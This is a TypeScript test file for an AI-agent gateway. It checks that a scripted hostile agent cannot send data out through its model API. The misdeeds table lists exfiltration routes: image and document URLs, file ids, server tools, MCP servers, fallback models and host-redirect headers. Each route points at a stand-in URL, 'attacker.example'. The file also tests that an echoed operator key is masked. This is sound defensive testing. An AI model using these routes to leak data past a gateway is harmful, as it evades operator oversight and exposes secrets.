// hosted: every – what leaves is judged by the gateway of each stack, by the profile that it has read
import { scriptedAgent } from '@attache/test-harness';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type OwnStack, openOwnStack } from '../stack/stack.ts';
import { type ModelProvider, startModelProvider } from '../steps/model-provider.ts';
import { type Place, runScript } from '../steps/turns.ts';

// An agent reaches its model API alone, and would have that fetch files, keep them or send them on.

const KEY = 'sk-key-of-the-operator';
const LINK = 'https://attacker.example/?q=what+it+read';

let provider: ModelProvider;
let stack: OwnStack;
let place: Place;

beforeAll(async () => {
  provider = await startModelProvider();
  const command = [process.execPath, scriptedAgent, 'claude-agent-acp'];
  const ofAgent = { runtime: 'acp', ownTools: 'none', provider: 'anthropic', model: 'model-1' } as const;
  const shared = { ...ofAgent, command };
  const endpoint = { api: 'anthropic', baseUrl: provider.url, apiKey: 'tenant:model-key' } as const;
  const opened = { ...endpoint, urlSources: 'allow' as const, serverTools: ['web_search'] };
  stack = await openOwnStack({
    profiles: { closed: { ...shared, endpoint }, opened: { ...shared, endpoint: opened } },
  });
  await stack.api.call('PUT', '/secrets/model-key', { body: { value: KEY } });
  place = await stack.api.createSession({ profile: 'closed', model: 'model-1' });
});
afterAll(async () => {
  await stack?.stop();
  await provider?.stop();
});

const toBody = (...content: object[]) => ({ messages: [{ role: 'user', content }] });
const image = (source: object) => ({ type: 'image', source });
const byUrl = toBody(image({ type: 'url', url: LINK }));
const byTool = { tools: [{ type: 'web_search_20250305', name: 'web_search' }] };

const misdeeds: [string, { headers?: object; body?: object }, string][] = [
  ['a picture at a URL', { body: byUrl }, 'messages[0].content[0].source.type'],
  [
    'a file by its id',
    { body: toBody(image({ type: 'base64', file_id: 'file_1' })) },
    'messages[0].content[0].source.file_id',
  ],
  [
    'a document at a URL in a tool’s result',
    { body: toBody({ type: 'tool_result', tool_use_id: 't', content: [{ type: 'document', source: { url: LINK } }] }) },
    'messages[0].content[0].content[0].source.url',
  ],
  ['a search by the provider', { body: byTool }, 'tools[0].type'],
  [
    'a use of its tools in the conversation',
    { body: toBody({ type: 'server_tool_use', name: 'web_fetch' }) },
    'messages[0].content[0].type',
  ],
  ['a server of its own', { body: { mcp_servers: [{ type: 'url', url: LINK }] } }, 'mcp_servers'],
  ['a container', { body: { container: 'container_1' } }, 'container'],
  ['another model behind its own', { body: { fallbacks: [{ model: 'model-2' }] } }, 'fallbacks'],
  ['a field that nobody knows', { body: { api_base: LINK } }, 'api_base'],
  ['another host', { headers: { 'x-portkey-custom-host': LINK } }, 'x-portkey-custom-host'],
  ['another host by another name', { headers: { 'helicone-target-url': LINK } }, 'helicone-target-url'],
  ['another account', { headers: { 'openai-organization': 'org-1' } }, 'openai-organization'],
  ['a cookie', { headers: { cookie: 'session=1' } }, 'cookie'],
];

describe('a hostile agent gets nothing out by its model API [BX-24 A7 A18]', () => {
  it.each(misdeeds)('not by %s: it is told 403 and why, and the provider nothing', async (_, misdeed, field) => {
    const before = provider.bodies.length;
    const [[status, message]] = (await runScript(stack.api, place, [`misuse-model ${JSON.stringify(misdeed)}`])) as [
      [number, string],
    ];
    expect([status, message]).toEqual([403, expect.stringContaining(field)]);
    expect(provider.bodies.slice(before).join('')).not.toContain('attacker');
    expect(provider.bodies).toHaveLength(before);
  });

  it('gets no key out of a provider that repeats it', async () => {
    provider.behave((response) => {
      const said = JSON.stringify({ error: { message: `no such key: ${provider.keys.at(-1)}` } });
      response.writeHead(401, { 'x-key': KEY }).end(said);
    });
    const [[status, message]] = (await runScript(stack.api, place, ['misuse-model {}'])) as [[number, string]];
    provider.behave(undefined);
    expect(provider.keys.at(-1)).toBe(KEY);
    expect([status, message]).toEqual([401, `no such key: ${'*'.repeat(KEY.length)}`]);
  });

  it('reaches what the operator opened', async () => {
    const open = await stack.api.createSession({ profile: 'opened', model: 'model-1' });
    const lines = [byUrl, byTool].map((body) => `misuse-model ${JSON.stringify({ body })}`);
    expect(await runScript(stack.api, open, lines)).toEqual([
      [200, ''],
      [200, ''],
    ]);
    expect(provider.bodies.at(-2)).toContain(LINK);
  });
});
